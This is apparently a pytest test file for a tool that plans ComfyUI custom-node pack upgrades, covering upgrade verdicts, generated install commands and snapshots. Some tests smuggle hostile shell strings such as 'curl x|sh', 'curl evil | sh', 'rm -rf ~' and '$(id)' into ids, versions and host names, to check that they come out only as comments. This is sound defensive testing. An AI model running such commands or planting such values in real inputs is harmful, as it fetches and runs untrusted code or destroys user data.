"""The plan: the upgrade verdict, the commands to paste, and the snapshot Manager restores."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import pytest

from audit.advisor import (
    Recommendation,
    changed_by_upgrade,
    changed_verdict,
    plan_commands,
    plan_snapshot,
    upgrade_verdict,
)
from audit.manifest import read_manifest
from audit.model import (
    AuditedEntry,
    EntrySource,
    Finding,
    FindingSource,
    Severity,
    When,
)
from tests.advisor.support import ENV, HOST, entry

TO_040 = replace(ENV, target_comfyui="0.4.0")


def rec(
    node_id: str,
    version: str | None,
    recommended: str | None,
    blocked_by: tuple[str, ...] = (),
    *,
    host: str = HOST,
) -> Recommendation:
    clears = ("status.flagged",) if recommended else ()
    return Recommendation(host, node_id, version, recommended, clears, blocked_by)


def pack(
    node_id: str, version: str, check: str = "comfyui.incompatible", when: When = When.NOW
) -> AuditedEntry:
    finding = Finding(
        HOST, node_id, version, check, Severity.ERROR, "m", FindingSource.REGISTRY, when=when
    )
    return AuditedEntry(entry(node_id, version), None, (finding,), None, None)


def after(node_id: str, version: str) -> AuditedEntry:
    return pack(node_id, version, when=When.AFTER_UPGRADE)


FOO = rec("comfyui-foo", "1.0.0", "1.2.0")
RGTHREE = rec("rgthree-comfy", "1.0.0", None, ("every Active version requires ComfyUI <0.4.0",))


# -- verdict -------------------------------------------------------------------------------------


def test_upgrade_is_safe() -> None:
    assert upgrade_verdict([pack("comfyui-foo", "1.0.0")], (), TO_040) == "upgrade is safe"


def test_safe_after_pack_changes() -> None:
    audited = [after("comfyui-foo", "1.0.0"), after("comfyui-bar", "2.0.0")]
    bar = rec("comfyui-bar", "2.0.0", "1.9.1")
    assert upgrade_verdict(audited, [FOO], TO_040) == "blocked by these packs: comfyui-bar@2.0.0"
    assert upgrade_verdict(audited, [FOO, bar], TO_040) == (
        "safe after 2 pack changes: comfyui-foo@1.0.0 -> 1.2.0, comfyui-bar@2.0.0 -> 1.9.1"
    )
    assert upgrade_verdict(audited[:1], [FOO], TO_040) == (
        "safe after 1 pack change: comfyui-foo@1.0.0 -> 1.2.0"
    )


def test_blocked_by_these_packs() -> None:
    audited = [after("comfyui-foo", "1.0.0"), after("rgthree-comfy", "1.0.0")]
    assert upgrade_verdict(audited, [FOO, RGTHREE], TO_040) == (
        "blocked by these packs: rgthree-comfy@1.0.0"
    )


def test_packs_advised_for_other_reasons_do_not_block_the_upgrade() -> None:
    flagged = pack("comfyui-tagged", "2.0.0", "status.flagged")
    stuck = rec("comfyui-tagged", "2.0.0", None, ("no Active version",))
    assert upgrade_verdict([flagged], [stuck], TO_040) == "upgrade is safe"


def test_a_fleet_names_each_pack_once() -> None:
    audited = [after("comfyui-foo", "1.0.0"), after("comfyui-foo", "1.0.0")]
    audited[1] = replace(audited[1], entry=replace(audited[1].entry, host="gpu-02"))
    recommendations = [FOO, replace(FOO, host="gpu-02")]
    assert upgrade_verdict(audited, recommendations, TO_040) == (
        "safe after 1 pack change: comfyui-foo@1.0.0 -> 1.2.0"
    )


def test_the_packs_changed_by_the_upgrade_give_the_verdict() -> None:
    audited = [
        after("comfyui-foo", "1.0.0"),
        pack("comfyui-tagged", "2.0.0", "status.flagged"),
        pack("comfyui-bar", "2.0.0"),
        after("rgthree-comfy", "1.0.0"),
    ]
    changed = changed_by_upgrade(audited, TO_040)
    assert changed == [audited[0], audited[3]]
    assert changed_by_upgrade(audited, ENV) == []
    for recommendations in ((), (FOO,), (FOO, RGTHREE)):
        assert changed_verdict(changed, recommendations) == (
            upgrade_verdict(audited, recommendations, TO_040)
        )


def test_many_packs_are_counted() -> None:
    audited = [after(f"pack-{i:02}", "1.0.0") for i in range(12)]
    verdict = upgrade_verdict(audited, [], TO_040)
    assert verdict.startswith("blocked by these packs: pack-00@1.0.0, pack-01@1.0.0, ")
    assert verdict.endswith("pack-09@1.0.0 and 2 more")


@pytest.mark.parametrize(
    ("recommendations", "verdict"),
    [
        ((), "no pack needs a change"),
        ((FOO,), "1 pack change advised: comfyui-foo@1.0.0 -> 1.2.0"),
        ((RGTHREE,), "no fitting version for: rgthree-comfy@1.0.0"),
        (
            (FOO, RGTHREE),
            "1 pack change advised: comfyui-foo@1.0.0 -> 1.2.0; "
            "no fitting version for: rgthree-comfy@1.0.0",
        ),
    ],
    ids=["none", "change", "stuck", "both"],
)
def test_without_a_target_the_now_state(
    recommendations: tuple[Recommendation, ...], verdict: str
) -> None:
    assert upgrade_verdict([pack("comfyui-foo", "1.0.0")], recommendations, ENV) == verdict


# -- commands ------------------------------------------------------------------------------------


def test_commands_of_one_host() -> None:
    assert plan_commands([FOO, RGTHREE, FOO]) == [
        "comfy node install comfyui-foo@1.2.0",
        "# rgthree-comfy@1.0.0: no fitting version (every Active version requires ComfyUI "
        "<0.4.0); to disable it: comfy node disable rgthree-comfy",
    ]


def test_commands_of_several_hosts() -> None:
    other = replace(FOO, host="gpu-02", recommended_version="1.1.0")
    assert plan_commands([FOO, other, replace(RGTHREE, host="gpu-02")]) == [
        "# host gpu-01",
        "comfy node install comfyui-foo@1.2.0",
        "# host gpu-02",
        "comfy node install comfyui-foo@1.1.0",
        "# rgthree-comfy@1.0.0: no fitting version (every Active version requires ComfyUI "
        "<0.4.0); to disable it: comfy node disable rgthree-comfy",
    ]


def test_registry_text_cannot_start_a_command() -> None:
    evil = rec("x", "1.0.0", None, ("requires ComfyUI <0.4\nrm -rf ~",))
    (line,) = plan_commands([evil])
    assert line.startswith("# ") and "\n" not in line
    assert plan_commands([]) == []


@pytest.mark.parametrize(
    ("node_id", "recommended", "line"),
    [
        ("a;curl x|sh", "1.2.0", "# a;curl x|sh@1.0.0: not a registry id; no command given"),
        ("foo\ncurl x|sh", "1.2.0", "# foo curl x|sh@1.0.0: not a registry id; no command given"),
        (
            "foo",
            "1.2.0 && curl x|sh",
            "# foo@1.0.0 -> 1.2.0 && curl x|sh: not a registry version; no command given",
        ),
        ("foo", "$(id)", "# foo@1.0.0 -> $(id): not a registry version; no command given"),
    ],
    ids=["id-with-shell", "id-with-newline", "version-with-shell", "version-substitution"],
)
def test_commands_hold_only_validated_ids_and_versions(
    node_id: str, recommended: str, line: str
) -> None:
    assert plan_commands([rec(node_id, "1.0.0", recommended)]) == [line]


def test_a_host_name_cannot_inject_a_line() -> None:
    lines = plan_commands([FOO, replace(FOO, host="gpu-02\ncurl evil | sh")])
    assert lines[2] == "# host gpu-02 curl evil | sh"
    assert not any(line.startswith("curl") for line in lines)


# -- snapshot ------------------------------------------------------------------------------------

ENTRIES = [
    entry("comfyui-foo", "1.0.0"),
    entry("rgthree-comfy", "1.0.0"),
    entry("comfyui-kjnodes", "1.1.9"),
    entry("local-pack", "0.1.0", source=EntrySource.LOCAL),
    entry("comfyui-off", "2.0.0", disabled=True),
    entry(
        "my-node",
        "0123abc",
        source=EntrySource.GIT,
        url="https://github.com/me/my-node",
        hash="0123abc",
    ),
    entry("other-host-pack", "1.0.0", host="gpu-02"),
]


def test_the_snapshot_reads_back_to_the_planned_versions(tmp_path: Path) -> None:
    recommendations = [FOO, RGTHREE, rec("local-pack", "0.1.0", "0.2.0")]
    snapshot = plan_snapshot(recommendations, ENTRIES, host=HOST)
    path = tmp_path / "plan.json"
    path.write_text(json.dumps(snapshot))

    manifest = read_manifest(path, host=HOST)

    assert {(e.node_id, e.version, e.disabled) for e in manifest.entries} == {
        ("comfyui-foo", "1.2.0", False),
        ("rgthree-comfy", "1.0.0", False),
        ("comfyui-kjnodes", "1.1.9", False),
        ("local-pack", "0.2.0", False),
        ("comfyui-off", "2.0.0", True),
        ("my-node", "0123abc", False),
    }
    assert snapshot["cnr_custom_nodes"] == {
        "comfyui-foo": "1.2.0",
        "rgthree-comfy": "1.0.0",
        "comfyui-kjnodes": "1.1.9",
        "local-pack": "0.2.0",
    }
    assert (snapshot["comfyui"], snapshot["pips"]) == (None, None)


def test_a_snapshot_is_of_one_host() -> None:
    with pytest.raises(ValueError, match="the entries are of 2 hosts; name the host"):
        plan_snapshot([FOO], ENTRIES)
    only = plan_snapshot([FOO], [e for e in ENTRIES if e.host == "gpu-02"])
    assert only["cnr_custom_nodes"] == {"other-host-pack": "1.0.0"}
    assert plan_snapshot([], [])["cnr_custom_nodes"] == {}


def test_the_snapshot_joins_ids_whatever_their_case() -> None:
    listed = [entry("ComfyUI-Foo", "1.0.0", requirements=("numpy<2",))]
    snapshot = plan_snapshot([rec("comfyui-foo", "1.0.0", "1.2.0")], listed, host=HOST)
    assert snapshot["cnr_custom_nodes"] == {"ComfyUI-Foo": "1.2.0"}
    # NOTE: the pack's own files describe the version installed, not the one it moves to.
    assert snapshot["pack_requirements"] == {}
